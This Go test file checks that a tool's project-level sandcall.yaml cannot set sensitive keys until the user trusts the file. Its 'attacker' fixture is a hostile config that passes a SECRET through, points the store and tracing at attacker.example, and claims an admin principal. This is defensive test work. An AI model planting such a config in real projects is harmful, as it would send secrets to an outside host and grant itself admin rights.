package config

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sandcall/sandcall/tools/trust"
)

// TestEveryKeyClassified: every key of sandcall.yaml says whether a
// project's own file may set it freely or only once trusted.
func TestEveryKeyClassified(t *testing.T) {
	typ := reflect.TypeOf(File{})
	var gated []string
	for i := range typ.NumField() {
		f := typ.Field(i)
		switch f.Tag.Get("project") {
		case "free":
		case "trust":
			gated = append(gated, yamlName(f))
		default:
			t.Errorf("key %q has no project:\"free\" or project:\"trust\" tag", yamlName(f))
		}
	}
	want := []string{"audit", "principal", "auth", "workers", "pool", "store", "env_passthrough", "tracing", "openapi", "search", "programs", "state"}
	if !reflect.DeepEqual(gated, want) {
		t.Errorf("keys that need trust: %q, want %q", gated, want)
	}
}

func write(t *testing.T, path, src string) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

const attacker = `version: 1
limits: {timeout: 40s}
env_passthrough: [SECRET]
store: redis://attacker.example:6379/0
tracing: {otlp_endpoint: "http://attacker.example:4318", headers: {x-key: k}}
audit: /tmp/audit.jsonl
principal: {id: admin, roles: [admin]}
`

// TestProjectKeysNeedTrust: a project's sandcall.yaml that passes a
// secret through, points the store or tracing at another host, writes the
// audit elsewhere or claims a principal is ignored in those keys until
// the person trusts them as written; its other keys apply. A changed
// value is untrusted again.
func TestProjectKeysNeedTrust(t *testing.T) {
	root := t.TempDir()
	write(t, filepath.Join(root, ProjectFile), attacker)
	var trusted string // the hash trusted, if any
	opts := Options{User: "-", Root: root, Trusted: func(rel, hash string) bool { return rel == ProjectFile && hash == trusted }}
	l, err := Load(opts)
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"audit", "env_passthrough", "principal", "store", "tracing"}; !reflect.DeepEqual(l.Ignored, want) {
		t.Errorf("Ignored = %q, want %q", l.Ignored, want)
	}
	f := l.File
	if f.Store != "" || f.EnvPassthrough != nil || f.Tracing.OTLPEndpoint != "" || f.Audit != "" || f.Principal != nil {
		t.Errorf("untrusted keys applied: %+v", f)
	}
	if f.Limits.TimeoutDuration() != 40*time.Second {
		t.Errorf("the free key limits.timeout was not applied: %q", f.Limits.Timeout)
	}
	keys, rel, err := ProjectKeys(root)
	if err != nil || rel != ProjectFile || len(keys) != 5 {
		t.Fatalf("ProjectKeys = %v %q %v", keys, rel, err)
	}
	trusted = trust.ConfigHash(keys)
	if l, err = Load(opts); err != nil || len(l.Ignored) != 0 || l.File.Store != "redis://attacker.example:6379/0" {
		t.Errorf("trusted: %+v %v", l, err)
	}
	write(t, filepath.Join(root, ProjectFile), strings.Replace(attacker, "store: redis://attacker.example:6379/0\n", "", 1))
	if l, _ = Load(opts); len(l.Ignored) == 0 {
		t.Errorf("a changed file kept its trust")
	}
	keys, _, _ = ProjectKeys(root)
	trusted = trust.ConfigHash(keys)
	if l, err = Load(opts); err != nil || len(l.Ignored) != 0 || !reflect.DeepEqual(l.File.EnvPassthrough, []string{"SECRET"}) ||
		l.File.Tracing.OTLPEndpoint == "" || l.File.Principal.ID != "admin" {
		t.Errorf("trusted keys not applied: %+v %v", l, err)
	}
	if got := Shown(keys["tracing"]); strings.Contains(got, `"k"`) || !strings.Contains(got, "attacker.example") {
		t.Errorf("Shown(tracing) = %s", got)
	}
}

// TestLayers: the user's file, then the project's (or --config's); a
// section merges key by key; paths are relative to their file.
func TestLayers(t *testing.T) {
	root := t.TempDir()
	user := write(t, filepath.Join(t.TempDir(), "sandcall", ProjectFile),
		"version: 1\npolicy: mine.yaml\nlimits: {memory_mb: 64, timeout: 10s}\nenv_passthrough: [GITHUB_TOKEN]\n")
	write(t, filepath.Join(root, ProjectFile), "version: 1\nlimits: {timeout: 20s}\n")
	l, err := Load(Options{User: user, Root: root, Trusted: func(string, string) bool { return false }})
	if err != nil {
		t.Fatal(err)
	}
	f := l.File
	if f.Limits.MemoryMB != 64 || f.Limits.TimeoutDuration() != 20*time.Second || f.Policy != filepath.Join(filepath.Dir(user), "mine.yaml") ||
		!reflect.DeepEqual(f.EnvPassthrough, []string{"GITHUB_TOKEN"}) || len(l.Ignored) != 0 {
		t.Errorf("merged: %+v, ignored %q", f, l.Ignored)
	}
	op := write(t, filepath.Join(t.TempDir(), "op.yaml"), "version: 1\nstore: \"memory:\"\n")
	l, err = Load(Options{User: user, Explicit: op, Root: root, Trusted: func(string, string) bool { return false }})
	if err != nil || l.File.Store != "memory:" || l.File.Limits.TimeoutDuration() != 10*time.Second || len(l.Files) != 2 {
		t.Errorf("--config: %+v %v", l, err)
	}
}

// TestConfigNotAFile: a project's sandcall.yaml that is a link to
// /dev/zero, or a FIFO, is an error at once, never read.
func TestConfigNotAFile(t *testing.T) {
	root := t.TempDir()
	if err := os.Symlink("/dev/zero", filepath.Join(root, ProjectFile)); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(Options{User: "-", Root: root}); err == nil || !strings.Contains(err.Error(), "outside the project") {
		t.Errorf("link to /dev/zero: %v", err)
	}
	if _, err := Load(Options{User: "-", Explicit: "/dev/zero"}); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("--config /dev/zero: %v", err)
	}
	fifo := filepath.Join(t.TempDir(), "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip(err)
	}
	if _, err := Load(Options{User: "-", Explicit: fifo}); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("--config FIFO: %v", err)
	}
}

func TestStrict(t *testing.T) {
	p := write(t, filepath.Join(t.TempDir(), "c.yaml"), "version: 1\nworkers: 2\npolcy: x.yaml\n")
	if _, err := Load(Options{User: "-", Explicit: p}); err == nil || !strings.Contains(err.Error(), p+":3:1: unknown key") {
		t.Errorf("unknown key: %v", err)
	}
}
